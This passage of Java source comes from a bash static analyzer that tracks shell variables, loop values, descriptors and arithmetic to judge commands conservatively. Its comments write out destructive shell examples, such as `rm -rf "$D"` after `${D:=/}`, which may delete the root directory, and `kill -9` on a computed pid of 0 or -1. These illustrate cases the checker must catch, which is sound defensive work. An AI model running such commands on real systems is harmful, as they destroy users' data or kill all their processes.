     * last one when it has fewer), beside the other maybe values; empty when it reads none.
     */
    private static List<Map<String, String>> loopEndValues(Vars v, String text) {
        Map<String, List<String>> read = new HashMap<>();
        v.maybeEnds.forEach((name, values) -> {
            // `e=$((d - 1))` (rt34b): arithmetic reads the name without a dollar sign (see #readsName)
            if (!v.known.containsKey(name) && readsName(text, name)) {
                read.put(name, values);
            }
        });
        int most = read.values().stream().mapToInt(List::size).max().orElse(0);
        List<Map<String, String>> out = new ArrayList<>();
        for (int k = 0; k < most; k++) {
            Map<String, String> values = new HashMap<>(v.maybe);
            int at = k;
            read.forEach((name, list) -> values.put(name, list.get(Math.min(at, list.size() - 1))));
            out.add(values);
        }
        return out;
    }

    /**
     * {@code B=…} reading names with a loop's other values ({@link Vars#maybeEnds}): B's value
     * computed once per end becomes B's ends ({@code … ((d--)); done; e=$d; kill -9 $e} and
     * {@code e=$((d - 1))} may signal pid 0 or -1). WHY (rt34b): the ends stayed with d alone.
     */
    private void copyLoopEnds(String raw, String name, Vars vars) {
        Set<String> ends = new java.util.LinkedHashSet<>();
        // `e=$((d - 1))` (rt34b): the value computed from each end, when the word reads none as text
        String arithmetic = LoopSteps.valueText(raw);
        for (Map<String, String> values : loopEndValues(vars, raw)) {
            String v = readWith(raw, vars, values);
            if (v == null && arithmetic != null) {
                v = Arithmetic.bash(arithmetic, n -> vars.known.containsKey(n) ? vars.known.get(n) : values.get(n));
            }
            if (v != null && v.matches("-?[0-9]{1,18}")) {
                ends.add(v);
            }
        }
        if (!ends.isEmpty()) {
            vars.maybeEnds.put(name, List.copyOf(ends));
        }
    }

    /** The end of {@link #HELD_ENDS} that stands for a range's largest number. */
    private static final String LARGEST = "largest";

    /** The ends a name holding a range's number ({@link Vars#heldRanges}) is read at. */
    private static final List<String> HELD_ENDS = List.of("0", "1", LARGEST);

    /**
     * Whether {@code text} reads variable {@code name}: {@code $name}, {@code ${name…}},
     * {@code ${!name…}} or {@code ${#name…}}, not a longer name. The one check of the second
     * readings ({@link Vars#reading}, {@link #maybeReading}, {@link #maybeUnsetReading}); also
     * the bare {@code name} inside arithmetic ({@code $((d - 1))}, {@code (( d > 0 ))}), which
     * reads it without a dollar sign. WHY (left36): {@code … ((d--)); done; kill -9 $((d - 1))}
     * was judged without the loop's ends, which a name assigned from the same arithmetic kept.
     */
    static boolean readsName(String text, String name) {
        // both readings name it as written: most texts hold no such name, and need no pattern compiled
        if (!text.contains(name)) {
            return false;
        }
        return Pattern.compile("\\$\\{?[!#]?" + Pattern.quote(name) + "(?![A-Za-z0-9_])").matcher(text).find()
                || text.contains("((") && readsInArithmetic(text, name);
    }

    /** Whether an arithmetic span {@code ((…))} of {@code text} names {@code name} bare (see {@link #readsName}). */
    private static boolean readsInArithmetic(String text, String name) {
        Pattern bare = Pattern.compile("(?<![A-Za-z0-9_$#!])" + Pattern.quote(name) + "(?![A-Za-z0-9_])");
        for (int at = text.indexOf("(("); at >= 0; at = text.indexOf("((", at + 2)) {
            int depth = 0;
            int end = at;
            while (end < text.length()) {
                char ch = text.charAt(end++);
                depth += ch == '(' ? 1 : ch == ')' ? -1 : 0;
                if (depth == 0) {
                    break;
                }
            }
            if (bare.matcher(text.substring(at, end)).find()) {
                return true;
            }
        }
        return false;
    }

    /**
     * The variables of a second reading with the candidates of {@link Vars#candidates} as values
     * ({@code : ${D:=/}; rm -rf "$D"} may delete {@code /}), when a word reads one; null when none
     * does. The candidates are taken after the words are expanded ({@code rm -rf "${D:=/}"} makes
     * the candidate it reads), and put into the variables as they were {@code before} the words,
     * on which the second reading expands them again ({@code unset E; rm -rf "${E:=$D}"}: the
     * first expansion forgot that E was unset).
     */
    private static Vars candidateReading(BashParser.SimpleCommandContext sc, Ctx c, Vars before) {
        Vars v = c.vars().candidates.isEmpty() ? null : (before != null ? before : c.vars()).reading(c.vars().candidates, readText(sc), null);
        // with the names maybe unset unset too (`unset E` in a case arm, then `rm -rf "${E-$D}"`)
        return v == null ? null : maybeUnsetReading(v, readText(sc), v);
    }

    /**
     * The simple command's words and redirections, one space between each, for the second
     * readings' look for a name: {@code sc.getText()} joins them with nothing between, so
     * {@code rm -rf $D 2>/dev/null} read {@code $D2}, another name.
     */
    private static String readText(BashParser.SimpleCommandContext sc) {
        StringBuilder b = new StringBuilder();
        for (ParseTree child : sc.children) {
            b.append(b.isEmpty() ? "" : " ").append(child.getText());
        }
        return b.toString();
    }

    /**
     * {@code alt} (or a copy of {@code v} when null and needed) with the names of
     * {@link Vars#maybeUnset} that {@code text} reads unset; {@code alt} itself when it reads none.
     */
    private static Vars maybeUnsetReading(Vars v, String text, Vars alt) {
        for (String name : v.maybeUnset) {
            if (!v.unset.contains(name) && !v.known.containsKey(name) && !v.arrays.containsKey(name)
                    && readsName(text, name)) {
                alt = alt == null ? v.copy() : alt;
                alt.unset.add(name);
            }
        }
        return alt;
    }

    /**
     * A second segment for simple command {@code d}: its words and redirections expanded once
     * more with {@code vars} ({@link #maybeReading}, {@link #candidateReading}), values a variable
     * may hold without the text being sure of it. Both readings are judged, so that such a value
     * is not dropped from view (fail closed: more segments can only make the verdict stricter).
     * Nothing when {@code vars} is null or the words come out the same.
     */
    private void secondReading(BashParser.SimpleCommandContext sc, Ctx c, Unit u, Position pos, Draft d, Vars vars,
            Set<OpaqueReason> reasons, boolean stdinFile) {
        if (vars == null) {
            return;
        }
        Ctx ac = c.with(vars);
        List<Word> argv = new ArrayList<>();
        List<Redirect> redirects = new ArrayList<>();
        boolean outer = secondReadingActive;
        secondReadingActive = true;
        try {
            for (ParseTree child : sc.children) {
                if (child instanceof BashParser.RedirectContext r) {
                    redirects.add(sameCommandDescriptor(redirect(r, u, ac), redirects));
                } else if (child instanceof TerminalNode t) {
                    Token tok = t.getSymbol();
                    if (argv.isEmpty() && Wrappers.isAssignment(tok.getText())) {
                        continue;
                    }
                    List<Word> list = listExpansion(tok.getText(), ac);
                    if (list != null) {
                        argv.addAll(list);
                    } else {
                        expandBraces(decode(tok, u, ac), argv, EnumSet.noneOf(OpaqueReason.class));
                    }
                }
            }
        } finally {
            secondReadingActive = outer;
        }
        stripCommandBuiltin(argv);
        redirects.addAll(c.inRedirects());
        if (argv.isEmpty() || argv.equals(d.argv) && redirects.equals(d.redirects)) {
            return;
        }
        Draft alt = add(ac, argv, d.assignments, redirects, d.heredocs, pos);
        alt.reasons.addAll(reasons);
        analyze(alt, ac, stdinFile);
    }

    /** Checks bash makes on simple commands that the grammar alone does not. */
    private static void checkSimple(Draft d) {
        for (Word a : d.assignments) {
            int eq = a.raw().indexOf('=');
            String value = a.raw().substring(eq + 1);
            if (value.startsWith("(") && value.endsWith(")")) {
                for (String element : WHITESPACE.split(value.substring(1, value.length() - 1).trim())) {
                    if (element.startsWith("[") && !ELEMENT_ASSIGN.matcher(element).matches()) {
                        d.reasons.add(OpaqueReason.SYNTAX_ERROR); // `[i]` without `=value` in an array
                    }
                }
            }
        }
        if (!d.argv.isEmpty()) {
            for (Word a : d.assignments) {
                // an array or element assignment cannot prefix a command
                if (ARRAY_ASSIGN.matcher(a.raw()).matches() || SUBSCRIPTED.matcher(a.raw()).matches()) {
                    d.reasons.add(OpaqueReason.SYNTAX_ERROR);
                }
            }
            Word w0 = d.argv.get(0);
            if (w0.raw().indexOf('[') > 0 && SUBSCRIPTED.matcher(w0.raw()).matches()) {
                d.reasons.add(OpaqueReason.SYNTAX_ERROR); // `a[1]` as a command: bash rejects it
            }
            if (w0.literal()) {
                switch (w0.text()) {
                    case "let" -> {
                        if (d.argv.size() < 2) {
                            d.reasons.add(OpaqueReason.SYNTAX_ERROR);
                        }
                        for (Word a : d.argv.subList(1, d.argv.size())) {
                            if (!ExpansionCheck.arithmetic(a.text())) {
                                d.reasons.add(OpaqueReason.SYNTAX_ERROR);
                            }
                        }
                    }
                    case "fc" -> {
                        // fc runs commands again from the history (fc -s, fc -e -, or after an
                        // editor), which the text does not show; only listing (-l) is plain
                        if (d.argv.stream().skip(1).noneMatch(w -> w.literal() && w.text().matches("-[a-z]*l[a-z]*"))) {
                            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
                        }
                    }
                    case "declare", "typeset", "local", "export", "readonly" -> {
                        for (Word a : d.argv.subList(1, d.argv.size())) {
                            int eq = a.raw().indexOf('=');
                            String name = eq > 0 ? a.raw().substring(0, eq) : "";
                            if (eq > 0 && !name.startsWith("-") && PLAIN.matcher(name).matches()
                                    && !DECLARED_NAME.matcher(name).matches()) {
                                d.reasons.add(OpaqueReason.SYNTAX_ERROR);
                            }
                        }
                    }
                    default -> {
                        // nothing more to check
                    }
                }
            }
        }
    }

    private Heredoc heredocOf(BashParser.RedirectContext r, Redirect red, Unit u) {
        if (red.op().equals("<<<")) {
            return new Heredoc(red.target().text() + "\n", red.target().literal());
        }
        if (red.op().equals("<<") || red.op().equals("<<-")) {
            BashLexerBase.HeredocBody b = u.heredocs().get(r.redirectOp().getStart().getStartIndex());
            return b == null ? new Heredoc("", false) : new Heredoc(b.body(), b.quoted());
        }
        return null;
    }

    private Redirect redirect(BashParser.RedirectContext r, Unit u, Ctx c) {
        int fd = -1;
        if (r.IO_NUMBER() != null) {
            String digits = r.IO_NUMBER().getText();
            // `{fd}>FILE` opens a new descriptor, numbered 10 or above, whose number goes to fd
            fd = digits.startsWith("{") ? DESCRIPTOR_BASE : digits.length() > 6 ? Integer.MAX_VALUE : Integer.parseInt(digits);
        }
        String op = r.redirectOp().getText();
        Word target = op.startsWith("<<") && !op.equals("<<<")
                ? BashWords.decode(r.WORD().getText()) : decode(r.WORD().getSymbol(), u, c).word();
        java.util.regex.Matcher m = DESCRIPTOR_REFERENCE.matcher(r.WORD().getText());
        Redirect opened = (op.equals(">&") || op.equals("<&")) && m.matches()
                ? c.vars().descriptors.get(m.group(1) != null ? m.group(1) : m.group(2)) : null;
        if (opened == null && (op.equals(">&") || op.equals("<&")) && NUMBERED.matcher(target.text()).matches()) {
            // `<&3` after `exec 3<FILE`: reads come from FILE
            opened = c.vars().descriptors.get("#" + target.text());
        }
        if (opened != null) {
            // `>&$fd` after `exec {fd}>FILE`: the output goes on into FILE (reads come from it)
            return new Redirect(op.equals(">&") ? ">>" : "<", fd, opened.target());
        }
        return new Redirect(op, fd, target);
    }

    /** A descriptor number above the standard three, as {@code exec N<FILE} opens and {@code <&N} copies. */
    private static final Pattern NUMBERED = Pattern.compile("[3-9]|[1-9][0-9]{1,5}");

    /**
     * {@code 3<FILE CMD <&3}: a copy of a descriptor that an earlier redirection of the same
     * command opened on a file reads from (or writes to) that file.
     */
    private static Redirect sameCommandDescriptor(Redirect red, List<Redirect> earlier) {
        if (!(red.op().equals(">&") || red.op().equals("<&")) || !NUMBERED.matcher(red.target().text()).matches()) {
            return red;
        }
        int n = Integer.parseInt(red.target().text());
        for (int i = earlier.size() - 1; i >= 0; i--) {
            Redirect o = earlier.get(i);
            if (o.fd() == n) {
                return o.isDescriptorDup() || o.op().startsWith("<<") ? red
                        : new Redirect(red.op().equals(">&") ? ">>" : "<", red.fd(), o.target());
            }
        }
        return red;
    }

    /** The lowest descriptor number bash gives a {@code {NAME}} redirection. */
    private static final int DESCRIPTOR_BASE = 10;
    /** {@code $fd}, {@code ${fd}}, maybe in double quotes: the target of a copy to a descriptor variable. */
    private static final Pattern DESCRIPTOR_REFERENCE =
            Pattern.compile("\"?\\$(?:([A-Za-z_][A-Za-z0-9_]*)|\\{([A-Za-z_][A-Za-z0-9_]*)})\"?");

    /**
     * {@code {NAME}>FILE}: NAME gets a computed number. After {@code exec}, which keeps the
     * descriptor open in the shell, NAME stands for FILE in later {@code >&$NAME} and
     * {@code <&$NAME}; {@code {NAME}>&-} closes it.
     */
    private static void descriptorVariables(BashParser.SimpleCommandContext sc, List<Word> argv, List<Redirect> redirects, Ctx c) {
        int k = 0;
        for (ParseTree child : sc.children) {
            if (!(child instanceof BashParser.RedirectContext r)) {
                continue;
            }
            Redirect red = redirects.get(k++);
            boolean exec = argv.size() == 1 && argv.get(0).literal() && argv.get(0).text().equals("exec");
            if (exec && r.IO_NUMBER() != null && NUMBERED.matcher(r.IO_NUMBER().getText()).matches()) {
                // `exec 3<FILE`: descriptor 3 stays open on FILE for later `<&3` (closed by `3<&-`)
                String key = "#" + r.IO_NUMBER().getText();
                boolean opens = !red.isDescriptorDup() && !red.op().startsWith("<<");
                if (c.conditional() || !opens) {
                    Redirect was = c.vars().descriptors.remove(key);
                    if (c.conditional()) {
                        // open before or after maybe: both stay in view (Vars#maybeDescriptors)
                        if (was != null) {
                            c.vars().maybeDescriptors.putIfAbsent(key, was);
                        }
                        if (opens) {
                            c.vars().maybeDescriptors.put(key, red);
                        }
                    } else {
                        c.vars().maybeDescriptors.remove(key);
                    }
                } else {
                    c.vars().descriptors.put(key, red);
                    c.vars().maybeDescriptors.remove(key);
                }
                continue;
            }
            if (r.IO_NUMBER() == null || !r.IO_NUMBER().getText().startsWith("{")) {
                continue;
            }
            String t = r.IO_NUMBER().getText();
            String name = t.substring(1, t.length() - 1);
            c.vars().forget(name);
            if (exec && !red.isDescriptorDup() && !red.op().startsWith("<<")) {
                // in a branch, loop body or after `||` the exec may not run: a maybe descriptor
                (c.conditional() ? c.vars().maybeDescriptors : c.vars().descriptors).put(name, red);
            }
        }
    }

    /** {@code ${x:=w}} of a plain name and a word of plain text, {@code ~} and {@code $NAME}: no arithmetic in it. */
    private static final Pattern PLAIN_DEFAULT = Pattern.compile(
            "\\$\\{[A-Za-z_][A-Za-z0-9_]*:?=(?:[A-Za-z0-9._/,:+@%^#~-]|\\$[A-Za-z_][A-Za-z0-9_]*|\\$\\{[A-Za-z_][A-Za-z0-9_]*})*}");

    private BashWords.Decoded decode(Token tok, Unit u, Ctx c) {
        // ${x:=w} of a plain name and word assigns x alone (see BashWords), no arithmetic
        String t = PLAIN_DEFAULT.matcher(tok.getText()).replaceAll("");
        if (t.contains("${") && (t.indexOf('=') >= 0 || t.contains("--") || t.contains("++"))) {
            // arithmetic in subscripts and offsets may assign any name: `${s:x=1}`, `${a[x--]}`
            c.vars().unset.clear();
        }
        BashWords.Decoded d = BashWords.decode(tok.getText(), tok.getStartIndex(), u.skips(), c.vars()::get, c.vars()::target,
                c.vars()::isUnset, !ifsTouched || secondReadingActive, !patternsTouched);
        Map<String, String> candidates = d.candidates().isEmpty() ? Map.of() : new HashMap<>(c.vars().candidates);
        Set<String> unsure = d.candidates().isEmpty() ? Set.of() : new HashSet<>(c.vars().unsureCandidates);
        Map<String, String> maybeBefore = d.candidates().isEmpty() ? Map.of() : new HashMap<>(c.vars().maybe);
        for (String name : d.assigned()) {
            // ${x:=w}, ${x=w}: the expansion may assign x; ${!r:=w} any variable
            if (name.equals("*")) {
                c.vars().known.clear();
            } else {
                c.vars().forget(name);
            }
        }
        boolean sure = !c.conditional() && !substituted(c.wrappers());
        d.values().forEach((name, value) -> assign(Word.literal(name + "=" + value), c.vars(), !sure));
        wordArithmeticAssignments(t, c, sure);
        if (!substituted(c.wrappers()) && (sure || forkedStages == 0)) {
            // x not known, maybe in the environment: x is its old value or w (see Vars#candidates),
            // also where the expansion may not run (`if …; then : ${D:=/}; fi`): then x is its old value
            d.candidates().forEach((name, value) -> {
                if (!integers.contains(name) && !namerefs.contains(name)) {
                    String first = candidates.get(name);
                    // the first candidate stays: after ${x:=/}, x is not empty and ${x:=w} assigns nothing
                    c.vars().candidates.put(name, first != null ? first : value);
                    if (first != null && unsure.contains(name) && !value.equals(first)) {
                        // the first expansion may not have run: this word is possible too
                        c.vars().maybe.putIfAbsent(name, value);
                    }
                    if (first == null ? !sure : unsure.contains(name) && !sure) {
                        c.vars().unsureCandidates.add(name);
                    } else {
                        c.vars().unsureCandidates.remove(name);
                    }
                    // a value x had only maybe stays possible: ${x:=w} assigns nothing when x is set
                    String was = maybeBefore.get(name);
                    if (was != null && !was.isEmpty()) {
                        c.vars().maybe.putIfAbsent(name, was);
                    }
                }
            });
        }
        return d;
    }

    /** {@code $(( … ))} and {@code $[ … ]} in a word token (the inner text; nesting is cut short, which only forgets more). */
    private static final Pattern WORD_ARITHMETIC = Pattern.compile("\\$\\(\\((.*?)\\)\\)|\\$\\[([^]]*)]", Pattern.DOTALL);

    /** An arithmetic assignment operator ({@code =}, {@code +=}, …, not {@code ==} {@code !=} {@code <=} {@code >=}) or an increment. */
    /**
     * An arithmetic expansion in a word that assigns ({@code : $((d=7200))}, {@code $((d+=1))},
     * {@code $[d++]}): bash assigns while expanding the word, so what was known is forgotten, as
     * after {@code (( … ))}; a sure {@code NAME = EXPR} (or {@code NAME op= EXPR}) that
     * {@link Arithmetic} computes, in a word with no other substitution, keeps the number.
     *
     * <p>WHY: {@code d=1; : $((d=7200)); sleep $d} was read as {@code sleep 1}.
     */
    private void wordArithmeticAssignments(String token, Ctx c, boolean sure) {
        java.util.regex.Matcher m = WORD_ARITHMETIC.matcher(token);
        while (m.find()) {
            String inner = m.group(1) != null ? m.group(1) : m.group(2);
            if (!BashArithmetic.assigns(inner)) {
                continue;
            }
            String rest = token.substring(0, m.start()) + token.substring(m.end());
            Map<String, String> set = sure && !rest.contains("$(") && !rest.contains("`") && !rest.contains("$[")
                    ? arithmeticAssignment(inner, c.vars()) : null;
            // the command's own evaluations read the old values after this word is decoded
            c.vars().afterArithmetic(set, true);
        }
    }

    private void expandBraces(BashWords.Decoded d, List<Word> argv, Set<OpaqueReason> reasons) {
        Word w = d.word();
        if (!w.literal() || w.text().indexOf('{') < 0) {
            argv.add(w);
            return;
        }
        try {
            List<String> words = BraceExpansion.expand(w.text(), d.unquoted(), MAX_BRACE_WORDS);
            braceWords += words.size();
            if (braceWords > MAX_BRACE_TOTAL) {
                throw new BraceExpansion.TooLarge();
            }
            if (words.size() == 1 && words.get(0).equals(w.text())) {
                argv.add(w);
                return;
            }
            EnumSet<WordFeature> f = EnumSet.of(WordFeature.BRACE);
            f.addAll(w.features());
            for (String s : words) {
                argv.add(new Word(s, w.raw(), true, f));
            }
        } catch (BraceExpansion.TooLarge e) {
            reasons.add(OpaqueReason.LIMIT_EXCEEDED);
            argv.add(w);
        }
    }

    /** Splits the substitutions inside a token's text as children of {@code parent}. */
    private void children(Token tok, Unit u, Ctx c, int parent) {
        int start = tok.getStartIndex();
        int stop = tok.getStopIndex();
        for (BashLexerBase.Span s : u.subs().subMap(start, true, stop, true).values()) {
            if (s.end() - 1 > stop) {
                continue;
            }
            String inner = u.text().substring(s.innerStart(), Math.max(s.innerStart(), s.innerEnd()));
            Provenance p;
            if (s.kind() == BashLexer.BACKTICK) {
                p = Provenance.BACKTICK;
                inner = unescapeBackticks(inner);
            } else {
                p = s.kind() == BashLexer.PROCSUB_OPEN ? Provenance.PROCESS_SUBSTITUTION : Provenance.COMMAND_SUBSTITUTION;
            }
            nested(inner, s.kind() == BashLexer.FUNSUB_OPEN ? c.inThisShell(p, parent) : c.sub(p, parent));
            inThisShell(s, c);
        }
    }

    /**
     * {@code ${ list; }} runs its commands like {@code $( )} (so they are split the same way, as
     * command substitutions) but in this shell, not a subshell: any variable may differ after it
     * (what it surely set is kept as a maybe value, see {@link Ctx#inThisShell}).
     */
    private static void inThisShell(BashLexerBase.Span s, Ctx c) {
        if (s.kind() == BashLexer.FUNSUB_OPEN) {
            c.vars().known.clear();
        }
    }

    /** True when a token of {@code t} holds a {@code ${ list; }} (see {@link #inThisShell}). */
    private static boolean holdsFunsub(ParseTree t, Unit u) {
        if (!(t instanceof org.antlr.v4.runtime.ParserRuleContext r) || r.getStart() == null || r.getStop() == null) {
            return false;
        }
        return u.subs().subMap(r.getStart().getStartIndex(), true, r.getStop().getStopIndex(), true).values().stream()
                .anyMatch(s -> s.kind() == BashLexer.FUNSUB_OPEN);
    }

    private static String unescapeBackticks(String s) {
        StringBuilder out = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char ch = s.charAt(i);
            if (ch == '\\' && i + 1 < s.length() && "\\`$".indexOf(s.charAt(i + 1)) >= 0) {
                out.append(s.charAt(++i));
            } else {
                out.append(ch);
            }
        }
        return out.toString();
    }

    /** Scans an unquoted heredoc body for the substitutions it runs; returns true when it expands. */
    private boolean heredocChildren(String body, Ctx c, Draft d) {
        return heredocChildren(body, c, d.id, d.reasons);
    }

    private boolean heredocChildren(String body, Ctx c, int parent, Set<OpaqueReason> reasons) {
        return heredocChildren(body, Evaluation.of(c, parent, reasons));
    }

    /**
     * Splits the substitutions of a text expanded like a double-quoted string (an unquoted
     * heredoc body, a prompt, a value bash evaluates) and evaluates its arithmetic and parameter
     * expansions; returns true when it expands anything.
     */
    private boolean heredocChildren(String body, Evaluation e) {
        Ctx c = e.c();
        int parent = e.parent();
        Set<OpaqueReason> reasons = e.reasons();
        BashLexer lx = new BashLexer(new StringCharStream(body));
        lx.removeErrorListeners();
        lx.scanHeredocBody();
        if (lx.limitHit()) {
            reasons.add(OpaqueReason.LIMIT_EXCEEDED);
            return true;
        }
        if (lx.errors() > 0) {
            reasons.add(OpaqueReason.SYNTAX_ERROR);
        }
        for (BashLexerBase.Span s : lx.spans()) {
            String inner = body.substring(s.innerStart(), Math.max(s.innerStart(), s.innerEnd()));
            if (s.subDepth() == 0 && s.kind() == BashLexer.ARITH_OPEN) {
                arithmeticText(inner, e);
            } else if (s.subDepth() == 0 && s.kind() == BashLexer.PARAM_OPEN) {
                parameterEvaluation(ShellEvaluation.parameter(inner), e);
            }
            if (s.subDepth() != 0 || s.kind() != BashLexer.SUB_OPEN && s.kind() != BashLexer.BACKTICK
                    && s.kind() != BashLexer.FUNSUB_OPEN) {
                continue;
            }
            boolean bt = s.kind() == BashLexer.BACKTICK;
            nested(bt ? unescapeBackticks(inner) : inner, s.kind() == BashLexer.FUNSUB_OPEN
                    ? c.inThisShell(Provenance.COMMAND_SUBSTITUTION, parent)
                    : c.sub(bt ? Provenance.BACKTICK : Provenance.COMMAND_SUBSTITUTION, parent));
            inThisShell(s, c);
        }
        return !lx.spans().isEmpty() || EXPANSION.matcher(body).find();
    }

    /** Tracks literal assignments so that {@code X=rm; $X} resolves; forgets what may change. */
    private void updateVars(Draft d, Ctx c) {
        Map<String, String> known = c.vars().known;
        for (Word a : d.assignments.isEmpty() ? d.argv : d.assignments) {
            String assigned = ShellEvaluation.referencedName(a.text());
            fpathSet |= Wrappers.isAssignment(a.text()) && (assigned.equals("fpath") || assigned.equals("FPATH"));
        }
        if (d.argv.isEmpty()) {
            for (Word a : d.assignments) {
                shellTable(a, d, c);
                assign(a, c.vars(), c.conditional() || substituted(c.wrappers()));
            }
            return;
        }
        Word w0 = d.argv.get(0);
        if (!w0.literal()) {
            known.clear();
            return;
        }
        String name = w0.text();
        switch (name) {
            case "export", "readonly", "declare", "typeset", "local" -> {
                if (!locals.isEmpty() && (name.equals("local") || !name.equals("export") && !name.equals("readonly")
                        && !ShellEvaluation.declares(d.argv, 'g'))) {
                    for (Word a : ShellEvaluation.nameOperands(d.argv)) {
                        String v = ShellEvaluation.referencedName(a.text());
                        locals.peek().add(v.isEmpty() ? a.text() : v);
                        if (!Wrappers.isAssignment(a.text())) {
                            // `local D`: a new variable without the caller's value
                            c.vars().forget(v.isEmpty() ? a.text() : v);
                        }
                    }
                }
                boolean nameref = ShellEvaluation.declares(d.argv, 'n');
                boolean integer = ShellEvaluation.declares(d.argv, 'i');
                if (ShellEvaluation.declares(d.argv, 'A')) {
                    for (Word a : ShellEvaluation.nameOperands(d.argv)) {
                        String v = ShellEvaluation.referencedName(a.text());
                        associative.add(v.isEmpty() ? a.text() : v);
                        c.vars().forget(v.isEmpty() ? a.text() : v);
                    }
                }
                for (Word a : d.argv.subList(1, d.argv.size())) {
                    if (nameref || integer) {
                        attribute(a, c.vars(), nameref ? namerefs : integers, !nameref);
                    }
                    if (nameref && Wrappers.isAssignment(a.text())) {
                        refer(a, c.vars());
                    } else if (Wrappers.isAssignment(a.text())) {
                        // a computed value is forgotten by assign, unless it is a mktemp path
                        shellTable(a, d, c);
                        assign(a, c.vars(), c.conditional() || substituted(c.wrappers()));
                    } else if (!a.literal()) {
                        known.clear();
                    }
                }
                exportAttribute(d.argv, c.vars());
            }
            case "set" -> setBuiltin(d.argv, c);
            case "shift" -> {
                Vars v = c.vars();
                String n = d.argv.size() > 1 ? d.argv.get(1).text() : "1";
                v.positional = v.positional == null || c.conditional() || d.argv.size() > 2 || !d.argv.get(d.argv.size() - 1).literal()
                        || !n.matches("[0-9]{1,3}") ? null
                        : v.positional.subList(Math.min(Integer.parseInt(n), v.positional.size()), v.positional.size());
            }
            case "unset", "read", "readarray", "mapfile", "getopts", "printf", "let" -> {
                if (name.equals("let")) {
                    // `let d=2*3600`: each operand computed in order over what is known (an unknown one forgets all)
                    Map<String, String> old = new HashMap<>(known);
                    // the ranges held before: restoring the known values below drops them (Vars.Known#clear)
                    Map<String, String> oldHeld = new HashMap<>(c.vars().heldRanges);
                    Map<String, String> sets = new LinkedHashMap<>();
                    for (Word a : d.argv.subList(1, d.argv.size())) {
                        Map<String, String> set = c.conditional() || !a.literal() ? null : arithmeticAssignment(a.text(), c.vars());
                        if (set == null) {
                            sets = null;
                            break;
                        }
                        sets.putAll(set);
                        known.putAll(set);
                    }
                    known.clear();
                    known.putAll(old);
                    // `d=$RANDOM; let 'd = d % 2 - 1'` (rt34b): computed from the range, as `(( … ))` is (see #heldAfter)
                    Map<String, String> held = new HashMap<>();
                    if (sets == null) {
                        c.vars().heldRanges.putAll(oldHeld);
                        for (Word a : d.argv.subList(1, d.argv.size())) {
                            if (a.literal()) {
                                Map<String, String> after = heldAfter(a.text(), c.vars());
                                c.vars().heldRanges.putAll(after);
                                held.putAll(after);
                            }
                        }
                    }
                    // `d=7200; let d=1 | cat` (the last stage may run here with lastpipe): 7200 stays possible
                    c.vars().afterArithmetic(sets, sets == null);
                    c.vars().heldRanges.putAll(held);
                }
                boolean plainUnset = name.equals("unset") && !scopesTouched
                        && !userCommands.contains("unset") && !aliases.containsKey("unset")
                        && d.argv.stream().skip(1).allMatch(a -> a.literal() && (a.text().equals("-v")
                                || dev.shellwarden.grammar.bash.Names.isIdentifier(a.text())));
                boolean variables = plainUnset && !c.conditional();
                for (Word a : d.argv.subList(1, d.argv.size())) {
                    c.vars().forget(a.text());
                    if (!a.literal()) {
                        known.clear();
                    }
                }
                if (name.equals("read")) {
                    readHereString(d, c.vars());
                } else if (name.equals("mapfile") || name.equals("readarray")) {
                    mapfileHereString(d, c.vars());
                }
                // `mapfile -t a < <(find .)`, `read -a a`: a's elements are names split at newlines or blanks
                c.vars().splitArrays.addAll(ShellEvaluation.splitListArrays(d.argv));
                if (variables) {
                    // `unset NAME`: NAME is now certainly unset (not a nameref, which unsets its target)
                    for (Word a : d.argv.subList(1, d.argv.size())) {
                        if (!a.text().equals("-v") && !c.vars().refs.containsKey(a.text())
                                && !SHELL_SET.matcher(a.text()).matches()) {
                            c.vars().unset.add(a.text());
                        }
                    }
                } else if (plainUnset) {
                    // `true && unset f`, an unset in a branch or loop body: f only maybe unset (Vars#maybeUnset)
                    for (Word a : d.argv.subList(1, d.argv.size())) {
                        if (!a.text().equals("-v") && !c.vars().refs.containsKey(a.text())
                                && !SHELL_SET.matcher(a.text()).matches()) {
                            c.vars().maybeUnset.add(a.text());
                        }
                    }
                }
                if (name.equals("printf")) {
                    printfAssignment(d.argv, c);
                }
            }
            case "hash" -> hash(d.argv);
            case "autoload" -> {
                // zsh: the function comes from a file on $fpath; from a folder the text names or
                // put on fpath, its body is not known (a call is USER_FUNCTION)
                for (Word a : d.argv.subList(1, d.argv.size())) {
                    String function = a.text().substring(a.text().lastIndexOf('/') + 1);
                    if (!a.text().startsWith("-") && !a.text().startsWith("+") && (fpathSet || a.text().contains("/"))) {
                        userCommands.add(function);
                    }
                    if (function.equals(ZSH_DEBUG_TRAP)) {
                        // an autoloaded DEBUG trap is the trap defined: see the function-definition branch
                        d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
                    }
                }
            }
            case "eval", "source", ".", "alias" -> {
                known.clear();
                // a literal eval payload is walked next as if typed here (analyze marks the text
                // loaded after it): `eval 'if true; then …; fi'` reads as the bare list does; a
                // computed one may be any text, so the text counts as loaded before it
                textLoaded |= !name.equals("alias") && !(name.equals("eval") && d.argv.stream().allMatch(Word::literal));
                if (name.equals("alias")) {
                    // zsh's global (-g) and suffix (-s) aliases expand outside the command position
                    boolean global = d.argv.stream().skip(1).anyMatch(a -> a.text().matches("-[a-zA-Z]*g[a-zA-Z]*"));
                    boolean suffix = d.argv.stream().skip(1).anyMatch(a -> a.text().matches("-[a-zA-Z]*s[a-zA-Z]*"));
                    for (Word a : d.argv.subList(1, d.argv.size())) {
                        int eq = a.text().indexOf('=');
                        if (eq > 0) {
                            String alias = a.text().substring(0, eq);
                            (global ? globalAliases : suffix ? suffixAliases : aliases).put(alias, a.text().substring(eq + 1));
                            if (!a.literal()) {
                                // a body only known when the command runs: the name stays opaque
                                userCommands.add(alias);
                            }
                        }
                    }
                }
            }
            default -> {
                if ((userCommands.contains(name) || aliases.containsKey(name)) && !call(d, c)) {
                    known.clear();
                }
            }
        }
    }

    /** A function defined in the text: its body, in the parsed text it came from. */
    /** A function's body; {@code sure} false when the definition may not have run (in a branch, loop, pipeline). */
    private record FunctionDef(BashParser.FunctionBodyContext body, Unit unit, boolean sure) {
    }

    /** Most calls walked inside one another. */
    private static final int MAX_CALLS = 8;

    /** Words after which the rest of a function body may not run. */
    private static final Set<String> FUNCTION_EXITS = Set.of("return", "exit", "exec", "break", "continue");

    /**
     * The functions defined so far, by name: the last definition ({@link FunctionDef#sure} false
     * when it may not have run: in a conditional or loop, in a pipeline), empty when its text is
     * not known.
     */
